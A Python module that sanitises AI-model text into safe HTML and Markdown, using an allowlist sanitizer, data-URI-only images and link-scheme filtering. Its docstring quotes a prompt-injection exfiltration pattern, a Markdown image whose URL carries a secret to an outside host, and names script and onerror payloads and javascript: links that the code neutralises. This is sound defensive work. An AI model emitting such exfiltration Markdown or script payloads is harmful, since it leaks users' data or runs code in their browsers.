"""Model text to HTML that can never be active, and to Markdown that cannot either.

Contract of :func:`markdown_to_html`:

* **No raw HTML.** markdown-it-py's ``commonmark`` preset runs with
  ``html=False``: a ``<script>`` or ``<img onerror=...>`` in the text comes out
  as visible, escaped text.
* **An allowlist, twice.** The rendered HTML then goes through ``nh3`` (the
  Ammonia sanitizer) with the tags and attributes in :data:`ALLOWED_TAGS` /
  :data:`ALLOWED_ATTRIBUTES` only: no event handlers, no ``style``, no ``class``,
  no ``id``, no ``<iframe>``/``<form>``/``<svg>``.
* **Only ``data:`` images load.** An image whose source is not a
  ``data:image/(png|jpeg|gif|webp)`` URI is rendered as text naming the URL
  (the classic prompt-injection exfiltration, ``![x](http://host/?d=secret)``,
  makes no request); the sanitizer's attribute filter drops any other ``src``
  that slipped through.
* **Links go nowhere dangerous.** ``href`` keeps only ``http``, ``https`` and
  ``mailto`` URLs (``javascript:``, ``data:``, ``vbscript:``, ``file:`` are
  dropped) and every link gets ``rel="noopener noreferrer"``.

:func:`escape_markdown_html` is the same promise for the ``.md`` export, whose
viewer may render raw HTML and images: raw HTML and image syntax outside code
become literal text.

Both libraries are imported on first use (they are dependencies; the import
costs a few milliseconds).
"""

from __future__ import annotations

import html
import re
from functools import lru_cache
from typing import Any

__all__ = [
    "markdown_to_html",
    "sanitize_html",
    "escape_markdown_html",
    "ALLOWED_TAGS",
    "ALLOWED_ATTRIBUTES",
    "LINK_SCHEMES",
    "IMAGE_DATA_PREFIXES",
]

ALLOWED_TAGS = frozenset({
    "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "b", "i", "code", "pre",
    "blockquote", "ul", "ol", "li", "a", "img", "table", "thead", "tbody", "tr", "th", "td", "del", "s",
    "span", "div", "details", "summary",
})
"""Structure and emphasis only: what CommonMark plus tables can produce."""
ALLOWED_ATTRIBUTES = {"a": {"href", "title"}, "img": {"src", "alt", "title"}, "ol": {"start"}}
"""No event handlers, styles, classes or ids: model text cannot restyle or script the page."""
LINK_SCHEMES = frozenset({"http", "https", "mailto"})
"""Schemes a link may use; a click is needed, and the link carries ``rel=noopener noreferrer``."""
IMAGE_DATA_PREFIXES = ("data:image/png", "data:image/jpeg", "data:image/gif", "data:image/webp")
"""The only image sources kept: inline bitmaps load nothing from anywhere (SVG is left out)."""

_SCHEME = re.compile(r"^\s*([a-zA-Z][a-zA-Z0-9+.\-]*):")


def _safe_image_src(value: str) -> bool:
    return value.strip().lower().startswith(IMAGE_DATA_PREFIXES)


def _safe_href(value: str) -> bool:
    match = _SCHEME.match(value)
    if match is None:
        return not value.strip().startswith("//")  # relative link or #anchor; never protocol-relative
    return match.group(1).lower() in LINK_SCHEMES


def _attribute_filter(tag: str, attribute: str, value: str) -> str | None:
    if tag == "img" and attribute == "src":
        return value if _safe_image_src(value) else None
    if tag == "a" and attribute == "href":
        return value if _safe_href(value) else None
    return value


def sanitize_html(fragment: str) -> str:
    """``fragment`` reduced to :data:`ALLOWED_TAGS`/:data:`ALLOWED_ATTRIBUTES`, safe URLs only."""
    import nh3

    return nh3.clean(
        fragment,
        tags=set(ALLOWED_TAGS),
        clean_content_tags={"script", "style"},
        attributes={k: set(v) for k, v in ALLOWED_ATTRIBUTES.items()},
        attribute_filter=_attribute_filter,
        url_schemes={"http", "https", "mailto", "data"},
        link_rel="noopener noreferrer",
        strip_comments=True,
    )


def _render_image(renderer: Any, tokens: Any, idx: int, options: Any, env: Any) -> str:
    token = tokens[idx]
    src = str(token.attrGet("src") or "")
    alt = "".join(child.content for child in (token.children or []))
    if _safe_image_src(src):
        return f'<img src="{html.escape(src)}" alt="{html.escape(alt)}"/>'
    shown = src if len(src) <= 120 else src[:119] + "…"
    return (f"<em>[image not loaded: {html.escape(alt or 'image')} — {html.escape(shown)}]</em>")


@lru_cache(maxsize=1)
def _parser() -> Any:
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark", {"html": False}).enable("table").enable("strikethrough")
    md.add_render_rule("image", _render_image)
    return md


def markdown_to_html(text: str) -> str:
    """Model text (Markdown) as sanitized HTML (see the module contract)."""
    return sanitize_html(_parser().render(str(text)))


_FENCE = re.compile(r"^ {0,3}(`{3,}|~{3,})")
_CODE_SPAN = re.compile(r"(`+)(.+?)\1", re.S)


_LINK_OPEN = re.compile(r"\]\(")
_SAFE_DESTINATION = re.compile(r"\s*<?\s*(https?://|mailto:|#)", re.I)
_REFERENCE_DEFINITION = re.compile(r"^( {0,3})\[(?=[^\]]+\]:)", re.M)


def _escape_inline(text: str) -> str:
    """Raw HTML, images, reference definitions and non-web links in one non-code stretch made literal."""
    text = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    text = text.replace("![", "!\\[")
    text = _REFERENCE_DEFINITION.sub(r"\1\\[", text)
    out, pos = [], 0
    for match in _LINK_OPEN.finditer(text):
        safe = _SAFE_DESTINATION.match(text, match.end()) is not None
        out.append(text[pos : match.start()] + ("](" if safe else "]\\("))
        pos = match.end()
    out.append(text[pos:])
    return "".join(out)


def _escape_paragraph(text: str) -> str:
    out, pos = [], 0
    for match in _CODE_SPAN.finditer(text):
        out.append(_escape_inline(text[pos : match.start()]))
        out.append(match.group(0))
        pos = match.end()
    out.append(_escape_inline(text[pos:]))
    return "".join(out)


def escape_markdown_html(text: str) -> str:
    """Markdown whose raw HTML and image syntax render as text; fenced code and code spans stay as written.

    ``<``, ``>`` and ``&`` outside code become entities, ``![`` becomes ``!\\[``
    (no image, hence no request), reference definitions and links to anything
    but ``http(s)``/``mailto``/``#`` lose their link syntax, and an unclosed
    fence is closed, so a Markdown viewer that renders raw HTML shows the
    model's ``<script>`` instead of running it. Indented code blocks
    are treated as text (escaping there only changes how they look).
    """
    lines = str(text).split("\n")
    out: list[str] = []
    fence: str | None = None
    paragraph: list[str] = []

    def flush() -> None:
        if paragraph:
            out.append(_escape_paragraph("\n".join(paragraph)))
            paragraph.clear()

    for line in lines:
        match = _FENCE.match(line)
        if fence is not None:
            out.append(line)
            if match and match.group(1)[0] == fence[0] and len(match.group(1)) >= len(fence):
                fence = None
            continue
        if match:
            flush()
            fence = match.group(1)
            out.append(line)
            continue
        if not line.strip():
            flush()
            out.append(line)
            continue
        paragraph.append(line)
    flush()
    if fence is not None:  # an unclosed fence would swallow what the export writes after it
        out.append(fence)
    return "\n".join(out)
